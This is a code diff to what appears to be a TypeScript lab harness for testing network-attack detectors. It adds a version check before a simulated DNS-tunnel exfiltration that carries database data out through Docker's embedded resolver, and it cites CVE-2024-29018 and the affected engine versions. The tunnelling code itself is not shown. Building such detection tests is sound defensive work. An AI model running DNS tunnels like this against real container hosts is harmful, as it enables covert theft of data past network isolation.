@@ -14,6 +14,7 @@ import {
   TUNNEL_PASSWORD,
   TUNNEL_PORT,
   TUNNEL_ZONE,
+  WEB_NAME,
 } from './internet.ts';
 import type { Lab } from './lab.ts';
 import { type RunResult, waitFor } from './run.ts';
@@ -43,6 +44,8 @@ export interface AttackOutcome {
   readonly answered: boolean;
   /** What he saw, in one line. */
   readonly saw: string;
+  /** This engine does not have the weakness: nothing was done, and nothing is owed. */
+  readonly closed?: true;
 }
 
 const { database, dataNetwork } = SHOP;
@@ -138,16 +141,24 @@ server of ${TUNNEL_ZONE}, which is the attacker's. No packet of the database eve
   run: (lab) => tunnelOut(lab, TUNNEL_ZONE, dataNetwork.gateway),
 };
 
+export const CLOSED = 'this engine takes no outside names from internal networks';
+
 export const dnsTunnelEmbedded: Attack = {
   id: 'dns-tunnel-embedded',
   title: `the database tunnels ${TUNNEL_BYTES / 1000} kB out through 127.0.0.11, Docker's own resolver`,
-  story: `Every container on a network of its own may ask 127.0.0.11, and the engine asks on from the host: here always,
-since the host's resolv.conf names a loopback address; from engine 28 on with any. No packet of it crosses any bridge.`,
+  story: `Engines before 23.0.11, 25.0.5 and 26.0 take outside names from internal containers too (CVE-2024-29018), and where
+the host's resolv.conf names a loopback address they ask on from the host: no packet of it crosses any bridge.`,
   expect: [
     { analyzer: 'dns-tunnel', about: OTHER_TUNNEL_DOMAIN },
     { analyzer: 'dns-internal-leak', about: OTHER_TUNNEL_DOMAIN },
   ],
-  run: (lab) => tunnelOut(lab, OTHER_TUNNEL_ZONE, '127.0.0.11'),
+  async run(lab) {
+    const probe = await inDatabase(lab, ['nslookup', WEB_NAME, '127.0.0.11']);
+    if (!probe.stdout.includes(INTERNET.web.v4)) {
+      return { answered: false, saw: CLOSED, closed: true };
+    }
+    return tunnelOut(lab, OTHER_TUNNEL_ZONE, '127.0.0.11');
+  },
 };
 
 async function tunnelOut(lab: Lab, zone: string, nameserver: string): Promise<AttackOutcome> {
